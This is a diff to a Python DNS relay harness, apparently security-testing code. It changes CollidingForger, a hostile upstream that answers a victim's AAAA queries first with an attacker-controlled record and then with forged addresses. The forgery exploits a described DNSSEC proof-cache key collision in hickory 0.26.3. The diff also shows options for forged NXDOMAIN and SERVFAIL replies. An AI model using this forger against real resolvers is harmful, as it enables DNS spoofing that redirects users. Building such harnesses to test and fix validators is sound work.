@@ -628,9 +628,9 @@ def forged_nxdomain(query: bytes, victim: str) -> bytes | None:
 
 
 class CollidingForger:
-    """A hostile upstream's answers to ``victim``'s AAAA queries, taking turns: first the
-    attacker's own RRset (an address for a name in an insecure zone it controls), then a forged
-    address for ``victim``. The two RRsets are chosen to share one key in hickory 0.26.3's
+    """A hostile upstream's answers to ``victim``'s AAAA queries: the first gets the
+    attacker's own RRset (an address for a name in an insecure zone it controls), every later
+    one a forged address for ``victim``. The two RRsets are chosen to share one key in hickory 0.26.3's
     cache of DNSSEC proofs (``cargo run --release --example proof_key_collision``), so a
     validator that trusts that cache serves the forgery the first RRset's insecure proof. The
     question is echoed byte for byte (0x20 case included)."""
@@ -644,7 +644,7 @@ class CollidingForger:
         if q is None or q[0].lower() != self.victim or q[1] != 28:
             return None
         with self.lock:
-            owner, address = self.rrsets[self.turn % len(self.rrsets)]
+            owner, address = self.rrsets[min(self.turn, len(self.rrsets) - 1)]
             self.turn += 1
         rdata = socket.inet_pton(socket.AF_INET6, address)
         record = _name_wire(owner) + struct.pack("!HHIH", 28, 1, 300, len(rdata)) + rdata
@@ -794,8 +794,8 @@ def main(argv: list[str]) -> int:
     s.add_argument("--port", type=int, default=53)
     s.add_argument("--forge-nxdomain", metavar="NAME", help="relay mode: answer NAME's A queries with forged_nxdomain()")
     s.add_argument("--forge-collision", nargs=5, metavar=("VICTIM", "OWNER1", "ADDR1", "OWNER2", "ADDR2"),
-                   help="relay mode: answer VICTIM's AAAA queries with OWNER1 AAAA ADDR1, then OWNER2 AAAA ADDR2, "
-                        "in turn (CollidingForger)")
+                   help="relay mode: answer VICTIM's first AAAA query with OWNER1 AAAA ADDR1, every later one "
+                        "with OWNER2 AAAA ADDR2 (CollidingForger)")
     s.add_argument("--swallow", metavar="QTYPE", type=int, help="relay mode: never answer queries of this numeric type")
     s.add_argument("--servfail", metavar="QTYPE", type=int, help="relay mode: answer queries of this numeric type SERVFAIL")
     args = ap.parse_args(argv[1:])
